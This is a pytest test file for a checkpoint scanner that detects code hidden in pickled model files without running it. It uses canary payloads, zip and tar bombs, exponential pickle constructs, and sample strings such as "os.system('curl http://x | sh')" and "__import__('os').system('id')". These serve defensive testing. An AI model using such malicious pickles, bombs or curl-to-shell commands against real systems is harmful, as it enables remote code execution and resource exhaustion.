"""`ckptool.scan`: what is in a file to be unpickled is found wherever it is, and nothing of it runs."""

import bz2
import contextlib
import gzip
import io
import lzma
import os
import pickle
import re
import struct
import tracemalloc
import warnings
import zlib

import hostile
import pytest
from hypothesis import given
from hypothesis import strategies as st

import ckptool
from ckptool.disk import files
from ckptool.errors import CheckpointError
from ckptool.formats import WITHOUT_PICKLES
from ckptool.formats.pickle.reader import NeedsMore
from ckptool.reports.scanning.following import Recorder
from ckptool.reports.scanning.pickles import BEGINNINGS
from ckptool.reports.scanning.scan import call_text, group_of
from ckptool.tree import Global, List, Object

GZIP = gzip.compress(b"x", mtime=0)


@pytest.fixture
def scanned(tmp_path, monkeypatch):
    """Write bytes to a file, scan it, and make sure that nothing ran."""
    monkeypatch.chdir(tmp_path)

    def scanned(data, name="file.bin"):
        (tmp_path / name).write_bytes(data)
        found = ckptool.scan(tmp_path / name)
        assert [path.name for path in tmp_path.iterdir()] == [name]
        (tmp_path / name).unlink()
        return found

    return scanned


@pytest.mark.parametrize("name", hostile.HOSTILE)
def test_a_payload_is_found_wherever_it_is(scanned, name):
    found = scanned(hostile.HOSTILE[name], name if name.endswith(".safetensors") else "file.bin")
    assert found.verdict == "unsafe", found
    calls = {one.name: one.calls for one in found.unsafe}
    assert sum(calls.get(f"{module}.mkdir", 0) for module in ("os", "posix", "nt")) >= 1
    assert all(one.group == "code execution" for one in found.unsafe)
    assert not found.weights_only


@pytest.mark.parametrize("name", hostile.HARMLESS)
def test_tensors_and_plain_data_are_safe_in_every_container(scanned, name):
    found = scanned(hostile.HARMLESS[name])
    assert (found.verdict, found.problems, found.unsafe) == ("safe", [], [])


def test_the_payloads_of_the_tests_do_run_where_somebody_unpickles_them(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for name in ("pickle", "protocol 0", "obj", "the name in the memo", "hidden in a tuple that is thrown away"):
        pickle.loads(hostile.HOSTILE[name])
        (tmp_path / "canary").rmdir()
    with pytest.raises(EOFError):
        pickle.loads(hostile.HOSTILE["before an end that never comes"])
    (tmp_path / "canary").rmdir()
    pickle.loads(hostile.polyglot())
    (tmp_path / "canary").rmdir()


def test_a_finding_says_where_how_often_and_with_what(scanned):
    found = scanned(hostile.torch_zip(hostile.TENSORS, **{"extra/hidden.dat": hostile.EVIL + hostile.EVIL}))
    (finding,) = found.unsafe
    assert finding.places == ["archive/extra/hidden.dat", "archive/extra/hidden.dat #2"]
    assert finding.calls == 2
    assert finding.examples == ["os.mkdir('canary')"] * 2
    assert found.pickles == ["archive/data.pkl", *finding.places]


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "the file is empty"),
        (b"plain words\n", "a text: plain words"),
        (hostile.TENSORS[:40], "cut short"),
        (hostile.torch_zip()[:-30], "end of the archive is missing"),
        (hostile.legacy()[:-4], "4 bytes of its storages are missing"),
        (hostile.zipped({"data.pkl": hostile.TENSORS, "x.gz": GZIP}), "a gzip file, which is not"),
        (hostile.safetensors(b'{"a": 1}'), "lacks dtype"),
        (hostile.torch_zip(hostile.TENSORS[:60]), "cut short"),
        (b"\x80\x04\xff\x01.", "has no opcode 0xff"),
    ],
)
def test_what_cannot_be_read_to_the_end_is_never_called_safe(scanned, data, words):
    found = scanned(data)
    assert found.verdict == "unknown"
    assert re.search(words, " ".join(found.problems))


@pytest.mark.parametrize("name", hostile.PRELUDES)
def test_python_does_run_what_stands_behind_odd_values(tmp_path, monkeypatch, name):
    monkeypatch.chdir(tmp_path)
    for load in (pickle.loads, lambda data: pickle.load(io.BytesIO(data))):
        with contextlib.suppress(pickle.UnpicklingError, EOFError, FileExistsError):
            load(hostile.PRELUDES[name] + hostile.OLD_EVIL)
    (tmp_path / "canary").rmdir()


def test_torch_reads_a_tar_file_as_the_scanner_walks_it(tmp_path, monkeypatch):
    torch = pytest.importorskip("torch")
    monkeypatch.chdir(tmp_path)
    (tmp_path / "x.tar").write_bytes(hostile.HOSTILE["tar, in place of the second storage"])
    with warnings.catch_warnings(), contextlib.suppress(Exception):  # it is no archive that torch likes in the end
        warnings.simplefilter("ignore", DeprecationWarning)  # of Python, for how torch calls tarfile
        torch.load(tmp_path / "x.tar", weights_only=False)
    (tmp_path / "canary").rmdir()


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"\x80\x02N." * 1001 + hostile.EVIL, "more than 1,000 pickles"),
        (b"N." * 1001 + hostile.OLD_EVIL, "more than 1,000 pickles"),
        (hostile.legacy().replace(b"]q\x00X\x01\0\0\x000", b"]q\x00X\x01\0\0\x001"), "list of storages"),
        (hostile.torch_tar(pickle.dumps((1, 2), 2)), "not a storage|not those that|does not write"),
        (hostile.tarred({"x": b"1"})[:2048] + b"\1" * 512, "follows the members|damaged"),
        (gzip.compress(hostile.EVIL, mtime=0), "a gzip file"),
        (bz2.compress(hostile.EVIL), "a bzip2 file"),
        (lzma.compress(hostile.EVIL), "an xz file"),
        (zlib.compress(hostile.EVIL), "a zlib stream"),
        (hostile.npy_of("'<f4'", b"")[:40], "cut short"),
        (hostile.npy_of("nonsense", bytes(4)), "header cannot be read"),
    ],
)
def test_what_is_not_accounted_for_is_a_problem(scanned, data, words):
    found = scanned(data)
    assert (found.verdict, found.checkpoint) == ("unknown", True)
    assert re.search(words, " ".join(found.problems)), found.problems


def test_code_that_is_not_pickled_is_code(scanned):
    members = {".data/extern_modules": b"", "m/model.pkl": hostile.TENSORS, "collections.py": b"import os\n"}
    found = scanned(hostile.zipped(members))
    assert [(one.group, one.name, one.places) for one in found.unsafe] == [
        ("code execution", "source code of Python", ["archive/collections.py"])
    ]
    found = scanned(hostile.zipped({"archive_format": b"pt2", "data/aotinductor/model/x.so": b"\x7fELF" + bytes(99)}))
    assert [one.name for one in found.unsafe] == ["machine code"]


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("s0", True),
        ("Max(1, 2*s77 + u0)", True),
        ("FloorDiv(s0, 2)", True),
        ("Mul(Integer(2), Symbol('s26', positive=True, integer=True))", True),
        ("Symbol('__import__')", False),
        ("Symbol('s0')('id')", False),
        ("exec('x')", False),
        ("__import__('os').system('id')", False),
        ("eval(s0)", False),
        ("s0.func", False),
        ("(s0)(s1)", False),
    ],
)
def test_sizes_of_an_exported_program_are_arithmetic_or_code(scanned, text, safe):
    program = b'{"as_expr": {"expr_str": "%s"}}' % text.encode()
    found = scanned(hostile.zipped({"archive_format": b"pt2", "models/model.json": program}))
    assert found.verdict == ("safe" if safe else "unsafe")


def test_a_path_in_a_checkpoint_of_torch_is_safe(scanned):
    path = b"cpathlib\nPosixPath\n(X\1\0\0\0xtR"
    assert scanned(hostile.torch_zip(hostile.TENSORS[:-1] + b"X\4\0\0\0root" + path + b"s.")).verdict == "safe"


def test_many_headers_over_one_bomb_cost_no_more_than_the_file_is_worth(scanned, monkeypatch):
    followed = []

    class Counting(Recorder):
        def __init__(self, data, *args, **kwargs):
            followed.append(len(data))
            super().__init__(data, *args, **kwargs)

    monkeypatch.setattr("ckptool.reports.scanning.pickles.Recorder", Counting)
    monkeypatch.setattr("ckptool.reports.scanning.pickles._FREE", 1 << 16)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb = packer.compress(b"N" * (16 << 20)) + packer.flush()
    headers = [struct.pack("<4s2x2H4x3I2H", b"PK\3\4", 0, 8, 0, 0, 0, 0, 30 * left) for left in range(39, -1, -1)]
    many = b"".join(headers) + bomb
    deflated = hostile.zipped({"data.pkl": b"\x80\x02" + b"]" * (8 << 20) + b"."}, 8)
    for data in many, deflated:
        found = scanned(data)
        assert found.verdict == "unknown"
        assert "needs more reading" in " ".join(found.problems)
        assert sum(followed) < (1 << 17) + 64 * len(data), "the whole of one bomb is 16 MiB, and there are forty"
        followed.clear()


def test_a_bomb_is_not_inflated(scanned):
    members = {"data.pkl": hostile.TENSORS, "zeros": bytes(80 << 20)}
    found = scanned(hostile.zipped(members, 8))
    assert found.verdict == "unknown"
    assert "not looked into" in found.problems[0]


def test_archives_without_end_are_left(scanned):
    data = hostile.EVIL
    for _ in range(12):
        data = hostile.zipped({"inner": data})
    found = scanned(data)
    assert found.verdict == "unknown"
    assert "nested more than" in found.problems[0]


def test_a_list_of_storages_that_would_take_for_ever_to_spell_does_not(scanned):
    keys = pickle.dumps(["0"], 2)
    doubled = b"\x80\x02](N" + b"2\x86" * 60 + b"e."
    (problem,) = scanned(hostile.legacy().replace(keys, doubled)).problems
    assert "list of storages" in problem


#: Sizes in headers of a tar archive: huge, and below zero, where the next header would be this one again.
TAR_SIZES = {
    "huge": b"777777777777",
    "negative": b"\xff" * 10 + b"\xfe\0",
    "negative and long": b"\xff" * 9 + b"\xf0\0\0",
}


@pytest.mark.parametrize("kind", [b"0", b"x", b"g", b"L"])
@pytest.mark.parametrize("size", TAR_SIZES.values(), ids=TAR_SIZES)
@pytest.mark.parametrize("member", [0, 1])
def test_no_size_in_a_tar_archive_is_taken_at_its_word(scanned, kind, size, member):
    data = hostile.tarred({"one": b"", "two": hostile.TENSORS})
    block = data[512 * member :][:512]
    block = block[:124] + size + block[136:156] + kind + block[157:]
    total = sum(block[:148]) + 8 * 32 + sum(block[156:])
    block = block[:148] + b"%06o\0 " % total + block[156:]
    tracemalloc.start()
    found = scanned(data[: 512 * member] + block + data[512 * member + 512 :])
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert found.verdict == "unknown"
    assert peak < 8 << 20


def test_a_persistent_id_that_would_take_for_ever_to_spell_does_not(scanned):
    doubled = b"\x80\x02)" + b"2\x86" * 60
    assert scanned(doubled + b"(U\x07storage" + b"ctorch\nFloatStorage\n" + b"h\x00" + b"tQ.").verdict == "unknown"
    laughs = b"\x80\x02" + b"(U\x07storagectorch\nFloatStorage\n)" + b"2\x86" * 60 + b"U\x03cpuK\x01tQ."
    assert scanned(laughs).verdict == "safe"


@pytest.mark.parametrize(
    ("name", "calls", "group"),
    [
        ("torch._utils._rebuild_tensor_v2", 4, "tensors"),
        ("collections.OrderedDict", 0, "plain data"),
        ("argparse.Namespace", 1, "plain data"),
        ("subprocess.Popen", 0, "code execution"),
        ("builtins.eval", 1, "code execution"),
        ("torch.hub.load", 1, "code execution"),
        ("torch.hub.load", 0, "custom classes"),
        ("models.yolo.Model", 1, "custom classes"),
        ("__main__.Config", 1, "custom classes"),
        ("torch._utils._rebuild_tensor_v2.__globals__", 0, "custom classes"),
        ("argparse.Namespace2", 0, "code execution"),
    ],
)
def test_names_are_grouped(name, calls, group):
    assert group_of(name, calls) == group


def test_calls_of_plain_names_that_take_memory_are_no_plain_data(scanned):
    found = scanned(b"\x80\x02c__builtin__\nbytearray\n(\x8a\x05\x00\x00\x00\x00\x10tR.")
    assert found.verdict == "unsafe"
    assert found.unsafe[0].examples == ["builtins.bytearray(68719476736)"]


def test_a_call_reads_like_python_and_is_cut():
    made = Object("reduce", Global("os", "system"), ("curl http://x | sh\x1b[31m" + "a" * 500, List([1] * 9), (1,)))
    text = call_text(made)
    assert text.startswith("os.system('curl http://x | sh\\x1b[31maaa")
    assert len(text) <= 160
    assert call_text(Object("reduce", made, ((),))).startswith("os.system(")


def test_what_is_tried_as_a_pickle_begins_with_what_our_machine_takes_first():
    def begins(byte):
        try:
            Recorder(bytes([byte]), complete=False, total=1 << 20).load()
        except NeedsMore:
            return True
        except CheckpointError:
            return False
        return True

    assert {bytes([byte]) for byte in range(256) if begins(byte)} - {b"P"} == BEGINNINGS


def test_formats_without_pickles_are_the_formats_that_hold_none_in_their_order():
    assert list(WITHOUT_PICKLES) == [one for one in ckptool.FORMATS if not one.pickles]


def test_a_small_file_is_read_once(tmp_path, monkeypatch):
    (tmp_path / "x.pth").write_bytes(hostile.torch_zip())
    reads = []
    monkeypatch.setattr(files, "_pread", lambda *wanted: reads.append(wanted[1:]) or os.pread(*wanted))
    assert ckptool.scan(tmp_path / "x.pth").verdict == "safe"
    assert reads == [((tmp_path / "x.pth").stat().st_size, 0)]


@given(st.binary(max_size=300))
def test_no_bytes_make_it_fail(tmp_path_factory, data):
    path = tmp_path_factory.mktemp("scan") / "x"
    for head in (b"", b"\x80\x02", hostile.torch_zip()[:200], hostile.MAGIC, struct.pack("<Q", 3) + b"{"):
        path.write_bytes(head + data)
        assert ckptool.scan(path).verdict in ("safe", "unsafe", "unknown")


@given(st.integers(0, 400), st.integers(0, 255))
def test_a_changed_byte_hides_nothing(tmp_path_factory, place, value):
    """Whatever happens to an archive around the payload, it is not called safe while the payload is whole."""
    data = bytearray(hostile.torch_zip(hostile.EVIL))
    at = data.find(hostile.EVIL)
    place %= len(data)
    if at <= place < at + len(hostile.EVIL):
        return
    data[place] = value
    path = tmp_path_factory.mktemp("scan") / "x"
    path.write_bytes(data)
    assert ckptool.scan(path).verdict != "safe"
